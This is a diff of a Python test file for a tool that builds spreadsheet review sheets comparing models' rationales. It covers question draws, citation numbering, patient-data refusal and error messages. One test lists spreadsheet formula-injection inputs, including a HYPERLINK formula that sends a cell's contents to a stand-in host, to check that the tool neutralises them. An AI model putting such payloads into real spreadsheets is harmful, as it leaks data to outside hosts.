@@ -62,17 +62,18 @@ def test_ids_are_neither_numbers_nor_dates_nor_words(review):
         assert re.fullmatch("[bcdfghjklmnpqrstvwxz]{10}", row["item"])
 
 
-def test_a_draw_of_questions_is_a_draw(review):
-    few = {of["pair"] for of in key(review(questions=20, pairs=5))["questions"].values()}
-    others = {of["pair"] for of in key(review(pairs=5, seed=3))["questions"].values()}
-    assert len(few) == len(others) == 5
-    assert few != others
-    assert len(key(review(pairs=500))["questions"]) == 20
+def test_a_draw_of_questions_takes_the_diseases_in_turn(review):
+    drawn = {seed: [of["pair"] for of in key(review(pairs=13, seed=seed))["questions"].values()] for seed in (0, 1)}
+    for pairs in drawn.values():
+        counts = Counter(pair.partition("|")[0] for pair in pairs)
+        assert sorted(counts.values()) == [1] * 7 + [2] * 3  # of ten diseases with three questions each
+    assert set(drawn[0]) != set(drawn[1])
+    assert len(key(review(pairs=500))["questions"]) == 30
     with pytest.raises(KedrecError, match="pairs: 0; expected 1 or more"):
         review(pairs=0)
 
 
-def test_citations_mean_the_same_passage_for_all_and_look_alike(run, tmp_path, public):
+def test_citations_mean_the_same_passage_for_all_and_look_alike(run, tmp_path):
     shown = {"one": ["NCT0000", "NCT0001"], "two": ["NCT0002", "NCT0001", "NCT0000"], "none": []}
     said = {"one": "It helps[2,1].", "two": "It helps [2] [3].", "none": "It helps [1]; see [sic]."}
     runs = [run(name, rows_of(0, 3, shown[name], said[name])) for name in shown]
@@ -85,6 +86,10 @@ def test_citations_mean_the_same_passage_for_all_and_look_alike(run, tmp_path, p
         name = models[row["item"]].partition("/")[0]
         expected = "It helps [?]; see [sic]." if name == "none" else f"It helps [{both[0]}] [{both[1]}]."
         assert row["rationale"] == expected
+
+
+def test_passages_are_shuffled_too(review):
+    assert {re.match(r"\[1\] Excerpt (\d)", row["passages"])[1] for row in sheet(review())} == {"0", "1", "2", "3"}
 
 
 @pytest.mark.parametrize(
@@ -102,7 +107,11 @@ def test_cite_alike(written, alike):
     assert cite_alike(written, ["P-1", "P-2", "P-3"], {"P-1": 4, "P-2": 5, "P-3": 6}) == alike
 
 
-def test_the_base_and_the_teacher_are_reviewed_once(run, tmp_path, public):
+def test_citations_stand_in_the_order_of_their_numbers():
+    assert cite_alike("A [7] [1] [2].", ["P-1", "P-2"], {"P-1": 10, "P-2": 9}) == "A [9] [10] [?]."
+
+
+def test_the_base_and_the_teacher_are_reviewed_once(run, tmp_path):
     base = rows_of(0, 3, rationale="The base writes this.")
     runs = [run(name, rows_of(quality, 3), base=base) for name, quality in (("a", 1), ("b", 2))]
     write_review(runs, tmp_path / "review", base=True)
@@ -117,7 +126,7 @@ def test_the_base_and_the_teacher_are_reviewed_once(run, tmp_path, public):
         write_review([other], tmp_path / "nobody")
 
 
-def test_only_questions_of_all_are_asked(run, tmp_path, public):
+def test_only_questions_of_all_are_asked(run, tmp_path):
     runs = [run("a", rows_of(1, 9)), run("b", rows_of(2, 12)[6:])]
     write_review(runs, tmp_path / "review")
     pairs = {of["pair"] for of in key(tmp_path / "review")["questions"].values()}
@@ -126,16 +135,18 @@ def test_only_questions_of_all_are_asked(run, tmp_path, public):
         write_review([runs[0], run("c", rows_of(1, 12)[18:])], tmp_path / "other")
 
 
-def test_a_newer_test_stands_for_the_run(run, tmp_path, public):
+def test_a_newer_test_stands_for_the_run(run, tmp_path):
     runs = [run("a", rows_of(1, 3)), run("b", rows_of(2, 3))]
     again = runs[0] / "evaluations" / "44136fa355"
     again.mkdir(parents=True)
     (again / "predictions.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows_of(9, 3)))
+    for name in ("metrics.json", "provenance.json"):
+        (again / name).write_text("{}")
     write_review(runs, tmp_path / "review")
     assert {re.search(r"worth (\d)", row["rationale"])[1] for row in sheet(tmp_path / "review")} == {"9", "2"}
 
 
-def test_no_cell_is_a_formula(run, tmp_path, public):
+def test_no_cell_is_a_formula(run, tmp_path):
     nasty = [
         '=HYPERLINK("http://x?"&A1)',
         "+1",
@@ -158,7 +169,7 @@ def test_no_cell_is_a_formula(run, tmp_path, public):
     assert harmless("No change; a dose of -5 is safe - so far") == "No change; a dose of -5 is safe - so far"
 
 
-def test_texts_from_outside_stay_in_their_cells(run, tmp_path, public):
+def test_texts_from_outside_stay_in_their_cells(run, tmp_path):
     odd = 'A "quote", <Choice value="1"/> & $case\r\n\x00 \ud800 \u202e ]]>'
     runs = [run(name, rows_of(0, 3, rationale=odd)) for name in "ab"]
     write_review(runs, tmp_path / "review")
@@ -183,7 +194,7 @@ def test_what_is_of_patients_is_refused(run, tmp_path):
     places = [f"{name}={tmp_path}" for name in ("mimic", "graph", "texts")]
     hospital = run("hospital", rows_of(1, 3), "mimic_pairwise", *places)
     public = run("public", rows_of(2, 3))
-    with pytest.raises(KedrecError, match=r"hospital: trained on data of patients, .*--private"):
+    with pytest.raises(KedrecError, match=r"hospital: its data are of patients, .*--private"):
         write_review([public, hospital], tmp_path / "review")
     assert not (tmp_path / "review").exists()
     write_review([public, hospital], tmp_path / "review", private=True)
@@ -195,11 +206,18 @@ def test_what_is_of_patients_is_refused(run, tmp_path):
     assert "Smith" not in report.as_json() + report.as_markdown()
 
 
-def test_runs_that_cannot_be_reviewed(run, tmp_path, public):
-    good = run("a", rows_of(1, 3))
+def test_runs_that_cannot_be_reviewed(run, tmp_path):
+    good, unfinished = run("a", rows_of(1, 3)), run("some/unfinished", rows_of(1, 3))
+    (unfinished / "metrics.json").unlink()
     for runs, message in (
-        ([good, good], "the run a/a-id is given twice"),
-        ([good, tmp_path / "nowhere"], "config.yaml: no such file"),
+        ([good, good], "at least two models"),
+        ([good, tmp_path / "nowhere"], "nowhere: no such folder"),
+        ([good, unfinished], "unfinished/metrics.json: no such file"),
+        (
+            [good, run("some/finished", rows_of(1, 3)).parent],
+            "unfinished: metrics.json: no such file.*without this one",
+        ),
+        ([good, run("copy/a", rows_of(1, 3))], "the run a/a-id is given twice"),
         ([good, run("graph", [{"disease": "x", "compounds": []}])], "graph: no rationale in predictions.jsonl"),
         ([good, run("none", None)], "none: no rationale in predictions.jsonl"),
     ):
@@ -210,7 +228,7 @@ def test_runs_that_cannot_be_reviewed(run, tmp_path, public):
         write_review([good], tmp_path / "review", base=True)
     damaged = run("damaged", rows_of(1, 3))
     (damaged / "predictions.jsonl").write_text('{"pair": ')
-    with pytest.raises(KedrecError, match=r"predictions.jsonl: not JSONL"):
+    with pytest.raises(KedrecError, match=r"predictions.jsonl: damaged"):
         write_review([good, damaged], tmp_path / "review")
 
 
